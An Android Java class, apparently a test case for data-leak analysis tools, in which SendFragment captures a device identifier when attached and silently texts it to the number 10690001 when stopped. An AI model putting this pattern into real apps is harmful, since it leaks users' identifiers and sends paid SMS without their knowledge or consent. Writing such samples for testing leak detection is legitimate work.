package cn.shanhai.fragmentlifecycle;

import android.app.Activity;
import android.app.Fragment;
import android.telephony.SmsManager;

public class SendFragment extends Fragment {
  private String id = "none";

  @Override
  public void onAttach(Activity activity) {
    super.onAttach(activity);
    id = Device.id(activity);
  }

  @Override
  public void onStop() {
    super.onStop();
    SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
  }
}
